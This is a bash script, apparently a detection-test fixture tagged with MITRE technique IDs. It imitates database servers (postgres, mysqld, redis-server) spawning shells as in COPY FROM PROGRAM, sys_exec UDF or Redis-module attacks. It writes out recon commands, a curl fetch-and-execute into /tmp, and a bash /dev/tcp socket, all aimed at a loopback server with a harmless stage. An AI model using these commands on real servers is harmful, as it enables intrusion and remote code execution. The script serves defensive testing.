#!/bin/bash
# Run OS commands through database servers the way SQL does it: PostgreSQL's COPY ... FROM PROGRAM and a MySQL UDF such as sys_exec hand the command to /bin/sh -c, a module loaded into Redis calls system() or pipes commands into a shell. The servers are stand-ins: copies of /bin/bash named postgres, mysqld and redis-server in /opt/tpy-dbx/bin, each running a small script that does what the server does for such a query (fork, then /bin/sh -c CMD). The commands: recon (id, whoami, uname), a stage fetched with curl from a loopback HTTP server into /tmp and run, a bash /dev/tcp socket to that server, python3 -c, and a shell fed commands on stdin.
# technique: T1505.001 T1059.004
# expect: database-server-shell
set -eu
base=/opt/tpy-dbx; bin=$base/bin; mkdir -p "$bin" /srv/stage
for server in postgres mysqld redis-server; do cp /bin/bash "$bin/$server"; done
cat > "$base/query.sh" <<'SH'
# stand-in for the server's side of COPY ... FROM PROGRAM / sys_exec(): popen("/bin/sh -c CMD")
/bin/sh -c "$1"
echo "program exited $?"
SH
cat > "$base/module.sh" <<'SH'
# stand-in for a Redis module that writes commands into a shell's stdin
printf '%s\n' "$1" | /bin/sh
echo "shell exited $?"
SH
printf '#!/bin/sh\necho staged-payload-ran\n' > /srv/stage/stage.sh
port=$((20000 + ($$ + 23) % 20000))
/usr/bin/python3 -m http.server "$port" --bind 127.0.0.1 --directory /srv/stage > /dev/null 2>&1 &
web=$!
for _ in $(seq 50); do
    curl -s -o /dev/null "http://127.0.0.1:$port/" && break
    sleep 0.1
done
cd /tmp
# COPY t FROM PROGRAM 'id; whoami; uname -a'
"$bin/postgres" "$base/query.sh" 'id; whoami; uname -a'
# COPY t FROM PROGRAM 'curl ... -o /tmp/.pgx && chmod +x /tmp/.pgx && /tmp/.pgx'
"$bin/postgres" "$base/query.sh" \
    "curl -s -o /tmp/.pgx http://127.0.0.1:$port/stage.sh && chmod +x /tmp/.pgx && /tmp/.pgx"
# SELECT sys_exec('bash -c "exec 3<>/dev/tcp/..."'): a socket from bash's /dev/tcp
"$bin/mysqld" "$base/query.sh" \
    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$port; printf \"GET /stage.sh HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3'"
# a Redis module's system("python3 -c ...")
"$bin/redis-server" "$base/query.sh" "/usr/bin/python3 -c 'import os; print(os.uname().sysname)'"
# a Redis module feeding a shell on stdin (no -c; only builtins run)
"$bin/redis-server" "$base/module.sh" 'echo "uid: $(( 6 * 7 ))"'
kill "$web"
wait "$web" || true
